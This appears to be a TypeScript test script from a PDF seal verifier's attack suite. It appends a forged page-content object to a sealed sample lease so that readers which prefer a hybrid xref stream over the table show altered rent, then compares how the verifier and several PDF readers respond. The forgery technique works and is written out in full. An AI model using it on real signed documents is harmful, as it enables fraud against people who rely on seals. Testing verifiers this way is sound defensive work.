// H1: a hybrid update (a table whose trailer names an /XRefStm) that lists page 1's content object twice: the table
// at its sealed offset, the xref stream at a forged copy appended in the same update. sealcheck (mergeHybrid: "an
// update's table overrides the older stream"), poppler and pdf.js read the table's entry; a reader that loads each
// revision's /XRefStm after its table reads the forged object.
//   npx tsx scripts/attack-s11/hybrid-stream-wins.ts <mode>
// modes: honest (the xref stream lists the sealed offset too); forged.
import { readFileSync } from "node:fs";
import { deflateSync, inflateSync } from "node:zlib";
import { save, show, tool, verify, work } from "../attack36/lib.js";
import { lastStartXref, parseXrefTable } from "../generator/pdf-bytes.js";
import { concat, latin1Bytes, latin1Text } from "../generator/der.js";
import { pdfiumAndPdfjs, printReaders } from "./lib.js";

const mode = process.argv[2] ?? "forged";
if (!["honest", "forged"].includes(mode)) throw new Error(`mode: honest|forged, not ${mode}`);
const base = new Uint8Array(readFileSync("samples/valid/archive.pdf"));
const prev = lastStartXref(base);
const sealedOffsets = parseXrefTable(base, prev);
const CONTENT = 5; // page 1's /Contents in samples/valid/archive.pdf
const tail = latin1Text(base.subarray(prev));
const size = Number(/\/Size\s+(\d+)/.exec(tail)![1]);
const keep = ["Root", "Info", "ID"].map((k) => `/${k} ${new RegExp(`/${k}\\s*(\\d+\\s+\\d+\\s+R|\\[[^\\]]*\\])`).exec(tail)![1]}`).join(" ");
const lines = [
  "Lejekontrakt",
  "",
  "Udlejer: Sealcheck Test Ejendomme ApS",
  "Lejer: Karen Test Jensen og Lars Test Nielsen",
  "Lejemaal: Testvej 1, 1. th., 8000 Aarhus C",
  "Husleje: 1 kr. pr. maaned",
  "",
  "(Testdokument - ikke gyldigt)",
];
// The forged operators use the font name the sealed content uses.
const fontKey = /\/(\S+)\s+\d+\s+Tf/.exec(latin1Text(inflatedContent()))?.[1] ?? "F1";
function inflatedContent(): Uint8Array {
  const at = sealedOffsets.get(CONTENT)!;
  const text = latin1Text(base.subarray(at, at + 4000));
  const len = Number(/\/Length\s+(\d+)/.exec(text)![1]);
  const s = text.indexOf("stream") + "stream".length + (text[text.indexOf("stream") + 6] === "\r" ? 2 : 1);
  return new Uint8Array(inflateSync(base.subarray(at + s, at + s + len)));
}
const ops = deflateSync(Buffer.from(lines.map((l, i) => `BT /${fontKey} ${i === 0 ? 20 : 12} Tf 60 ${760 - i * 22} Td (${l}) Tj ET`).join("\n"), "latin1"));

let at = base.length;
const parts: Uint8Array[] = [base];
const push = (b: Uint8Array) => {
  parts.push(b);
  at += b.length;
};
const forgedAt = at;
push(concat(latin1Bytes(`${CONTENT} 0 obj\n<< /Filter /FlateDecode /Length ${ops.length} >>\nstream\n`), ops, latin1Bytes("\nendstream\nendobj\n")));
const X = size; // the xref stream's own number
const stmAt = at;
const row = (type: number, off: number, gen: number) => {
  const e = new Uint8Array(7);
  e[0] = type;
  new DataView(e.buffer).setUint32(1, off);
  new DataView(e.buffer).setUint16(5, gen);
  return e;
};
const data = concat(row(1, mode === "forged" ? forgedAt : sealedOffsets.get(CONTENT)!, 0), row(1, stmAt, 0));
push(
  concat(
    latin1Bytes(`${X} 0 obj\n<< /Type /XRef /Size ${X + 1} /W [1 4 2] /Index [${CONTENT} 1 ${X} 1] /Length ${data.length} >>\nstream\n`),
    data,
    latin1Bytes("\nendstream\nendobj\n"),
  ),
);
const tableAt = at;
const entry = (off: number) => `${String(off).padStart(10, "0")} 00000 n \n`;
push(
  latin1Bytes(
    `xref\n${CONTENT} 1\n${entry(sealedOffsets.get(CONTENT)!)}trailer\n<< /Size ${X + 1} ${keep} /Prev ${prev} /XRefStm ${stmAt} >>\nstartxref\n${tableAt}\n%%EOF\n`,
  ),
);
const out = concat(...parts);
const dir = work(`s11-hybrid-${mode}`);
const file = save(dir, "archive.pdf", out);
console.log(
  `wrote ${file} (${mode}): table lists ${CONTENT} 0 at ${sealedOffsets.get(CONTENT)} (sealed), /XRefStm at ${mode === "forged" ? forgedAt : sealedOffsets.get(CONTENT)}`,
);
const v = verify(file);
show(mode, v);
for (const c of v.report.checks.filter((c) => c.id === "seal-modifications")) console.log(`   ${c.id} ${c.status}: ${c.message.slice(0, 300)}`);
const rent = (t: string) =>
  t
    .split("\n")
    .filter((l) => /Husleje/.test(l))
    .map((l) => l.trim())
    .join(" / ") || "(no rent line)";
console.log(`== pdftotext page 1: ${rent(tool("pdftotext", ["-f", "1", "-l", "1", "-layout", file, "-"]))}`);
printReaders(file);
console.log(
  `== qpdf page 1 contents: ${tool("qpdf", ["--show-object=5", "--filtered-stream-data", file])
    .split("\n")
    .filter((l) => /Husleje/.test(l))
    .join(" / ")}`,
);
for (const l of pdfiumAndPdfjs(file, 400).filter((x) => /PDFium|pdf.js|p1:|not run/.test(x))) console.log(`== ${l.trim().slice(0, 300)}`);
